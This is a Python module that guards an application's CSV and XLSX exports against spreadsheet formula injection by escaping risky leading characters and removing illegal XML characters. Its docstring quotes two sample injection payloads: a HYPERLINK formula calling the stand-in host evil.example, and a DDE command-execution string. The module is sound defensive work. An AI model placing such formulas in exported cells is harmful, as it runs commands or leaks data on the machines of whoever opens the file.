"""Cells of every spreadsheet ohbot writes (CSV and XLSX): safe to open in Excel, WPS or LibreOffice.

Why: report and export cells carry text that came from outside (a region a Telegram user typed, a
cell of an imported CSV). A spreadsheet runs a cell starting with `=`, `+`, `-` or `@` as a formula
(`=HYPERLINK("http://evil.example/?x","点此")`, `+cmd|' /C calc'!A0`), also after a tab or a line
break; in XLSX openpyxl itself writes any text starting with `=` as a formula, and text equal to an
error code (`#N/A`) as an error cell. Every CSV and XLSX writer of ohbot (report.xlsx and the
report's CSV files, `responses export`, the web console's downloads) passes its cells through this
module, so the rule lives in one place:

- `safe_cell(value)`: text whose first character (after leading spaces and line breaks) is one of
  = + - @ tab CR LF, or their full-width forms, gets a leading apostrophe (the OWASP rule for CSV
  injection); characters XML 1.0 cannot hold (C0 controls other than tab, LF, CR; DEL) are
  removed, so openpyxl never refuses a workbook. Numbers, dates, booleans and None pass unchanged.
- `xlsx_value(ws, value)`: `safe_cell`, and text is always a string cell (never a formula or an
  error cell).

A neutralised cell shows its apostrophe: the reader sees exactly what was typed, and nothing runs.
"""
from __future__ import annotations

import re
from typing import Any

#: First characters that make a spreadsheet read a cell as a formula (OWASP "CSV Injection"), with
#: LF and the full-width forms that CJK input methods type.
FORMULA_START = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
#: Characters an XML 1.0 document (and so an XLSX cell) cannot hold; also stripped from CSV.
ILLEGAL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
#: Text openpyxl would store as an error cell rather than as text.
_ERROR_CODES = frozenset({"#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"})


def safe_cell(value: Any) -> Any:
    """A cell value that a spreadsheet shows as text and never runs: see the module docstring."""
    if not isinstance(value, str):
        return value
    if ILLEGAL_CHARACTERS.search(value):
        value = ILLEGAL_CHARACTERS.sub("", value)
    if value and value.lstrip(" \n\r")[:1] in FORMULA_START or value[:1] in FORMULA_START:
        return "'" + value
    return value


def xlsx_value(ws: Any, value: Any) -> Any:
    """A value for `ws.append` (openpyxl, normal or write-only sheet): `safe_cell`, with text that
    openpyxl would read as a formula or an error code written as an explicit string cell."""
    value = safe_cell(value)
    if isinstance(value, str) and (value in _ERROR_CODES or value.startswith("=")):
        from openpyxl.cell import WriteOnlyCell

        cell = WriteOnlyCell(ws, value=value)
        cell.data_type = "s"
        return cell
    return value


def xlsx_row(ws: Any, values: Any) -> list[Any]:
    """`xlsx_value` of every value of a row."""
    return [xlsx_value(ws, v) for v in values]
